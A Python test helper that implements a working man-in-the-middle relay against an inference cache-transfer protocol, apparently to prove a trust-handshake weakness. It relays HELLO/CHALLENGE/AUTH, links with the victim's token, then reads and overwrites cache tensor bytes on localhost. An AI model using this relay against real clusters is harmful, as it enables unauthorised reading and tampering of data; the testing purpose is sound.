# SPDX-License-Identifier: Apache-2.0
"""A man in the middle WITHOUT the AuthToken, run as its own process (tests/test_trust_relay_proof.py).

``python tests/proof_relay.py --mode handshake --victim PORT --cache ID``: listens on 127.0.0.1 and, for every
connection an honest engine opens to it, opens its own connection to the victim listener and relays
the handshake (HELLO, CHALLENGE, AUTH) so that the honest engine's proof answers the victim's
challenge. Once the victim authenticates a relayed control connection, the relay links to the victim
under its own LINK_INFO (and plays the listener towards the honest engine, so that it opens data
channels too); through a relayed data channel it then reads tensor 0 of cache ID and overwrites its
first 16 bytes. It prints ``{"port": N}`` once listening, then one report line:
``{"ctrl_ack": status of the victim's HELLO_ACK, "linked": bool, "read": bytes read or null, "wrote": bool}``
(and ``"sample"``: the first 16 bytes read, hex).

``python tests/proof_relay.py --mode bytes --victim PORT``: a plain TCP proxy to the victim (it forwards
bytes, rewrites nothing). Prints ``{"port": N}`` and runs until killed.
"""
import argparse
import json
import os
import socket
import struct
import sys
import threading

from hostile import (pipe, AUTH, BIND, BIND_LABEL, CHALLENGE, CONFIRM, CONFIRM_ACK, HELLO, HELLO_ACK, LINK_INFO, READ_REQ,
                     WRITE_DONE, WRITE_REQ, endpoint, link_info, mac, parse_link_info, recv_frame, request,
                     send_frame, transcript)

VICTIM_IP = "127.0.0.1"
LINK_FAILED = 1343270921  # llm_datadist LLM_LINK_FAILED, passed on when the victim refused

state = {"ctrl_ack": None, "linked": False, "read": None, "wrote": False}  # read: bytes read, or None
victim_link = {}  # what the victim's LINK_INFO gave us: cluster_id, token
done = threading.Event()
lock = threading.Lock()


def report():
    with lock:
        if not done.is_set():
            print(json.dumps(state), flush=True)
            done.set()


def relay_handshake(c, victim_port):
    """HELLO .. HELLO_ACK between honest opener `c` and a fresh connection to the victim; returns
    (victim socket, version, kind, opener cluster, client nonce, server nonce, victim's ack status)."""
    _, _, hello = recv_frame(c)
    version, kind, opener = struct.unpack_from("<IIQ", hello)
    v = socket.create_connection((VICTIM_IP, victim_port), timeout=10)
    send_frame(v, HELLO, hello)
    _, _, challenge = recv_frame(v)
    send_frame(c, CHALLENGE, challenge)
    _, _, auth = recv_frame(c)  # the honest opener's proof
    send_frame(v, AUTH, auth)
    t, status, _ = recv_frame(v)
    assert t == HELLO_ACK
    return v, version, kind, opener, hello[16:32], challenge[:16], status


def take_control(c, v, opener):
    """Links to the victim as cluster `opener` over `v`, and completes the honest engine's link on `c`
    (claiming to be the victim's cluster), so that it goes on to open data channels."""
    _, _, theirs = recv_frame(c)  # the honest engine's LINK_INFO: only answered
    send_frame(v, LINK_INFO, link_info(opener))
    t, status, payload = recv_frame(v)
    assert t == LINK_INFO and status == 0, status
    info = parse_link_info(payload)
    victim_link.update(cluster_id=info["cluster_id"], token=info["token"])
    send_frame(c, LINK_INFO, link_info(info["cluster_id"], link_token=os.urandom(16)))
    recv_frame(c)  # CONFIRM
    send_frame(c, CONFIRM_ACK)
    send_frame(v, CONFIRM, struct.pack("<qB", 0, 0))
    t, status, _ = recv_frame(v)
    state["linked"] = t == CONFIRM_ACK and status == 0


def bind(v, version, kind, opener, cn, sn, victim_port):
    """BIND with the link token the victim gave us: the token itself up to version 4, its MAC of
    this connection's transcript from version 5 (which we can compute: we hold the link token)."""
    token = victim_link["token"]
    if version >= 5:
        tr = transcript(kind, opener, victim_link["cluster_id"], cn, sn, endpoint(VICTIM_IP, victim_port), version)
        payload = mac(token, BIND_LABEL, tr)
    else:
        payload = token
    send_frame(v, BIND, payload)
    t, status, _ = recv_frame(v)
    return t == BIND and status == 0


def steal(v, cache_id):
    """Reads tensor 0 of the victim's cache, then overwrites its first 16 bytes."""
    send_frame(v, READ_REQ, request(cache_id, [0], [(0, 256)]))
    t, status, data = recv_frame(v)
    if status == 0:
        state["read"] = len(data)
        state["sample"] = data[:16].hex()
    send_frame(v, WRITE_REQ, request(cache_id, [0], [(0, 16)]), flags=1)
    v.sendall(b"RELAYED-WRITE!!!")
    t, status, _ = recv_frame(v)
    state["wrote"] = t == WRITE_DONE and status == 0


def serve(c, args):
    try:
        v, version, kind, opener, cn, sn, status = relay_handshake(c, args.victim)
        if kind == 1:
            state["ctrl_ack"] = status
        if status != 0:
            send_frame(c, HELLO_ACK, status=LINK_FAILED)
            report()
            return
        send_frame(c, HELLO_ACK)
        if kind == 1:
            take_control(c, v, opener)
            threading.Event().wait(30)  # keep both control connections open
            return
        recv_frame(c)  # the honest engine's BIND: accepted, whatever it says
        send_frame(c, BIND)
        if bind(v, version, kind, opener, cn, sn, args.victim) and kind == 2:
            steal(v, args.cache)
            report()
        threading.Event().wait(30)
    except (ConnectionError, OSError, AssertionError, struct.error) as e:
        print(f"relay: {type(e).__name__}: {e}", file=sys.stderr, flush=True)
        report()


def proxy(c, args):
    v = socket.create_connection((VICTIM_IP, args.victim), timeout=10)
    v.settimeout(None)
    c.settimeout(None)
    threading.Thread(target=pipe, args=(c, v), daemon=True).start()
    pipe(v, c)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--mode", choices=["handshake", "bytes"], required=True)
    ap.add_argument("--victim", type=int, required=True)
    ap.add_argument("--cache", type=int, default=0)
    ap.add_argument("--timeout", type=float, default=20.0)
    args = ap.parse_args()
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    print(json.dumps({"port": srv.getsockname()[1]}), flush=True)
    handler = serve if args.mode == "handshake" else proxy
    if args.mode == "handshake":
        threading.Timer(args.timeout, report).start()  # nothing happened in time: say so
    threading.Thread(target=lambda: (sys.stdin.read(), os._exit(0)), daemon=True).start()  # parent gone: exit
    while True:  # until killed
        c, _ = srv.accept()
        c.settimeout(10)
        threading.Thread(target=handler, args=(c, args), daemon=True).start()


if __name__ == "__main__":
    main()
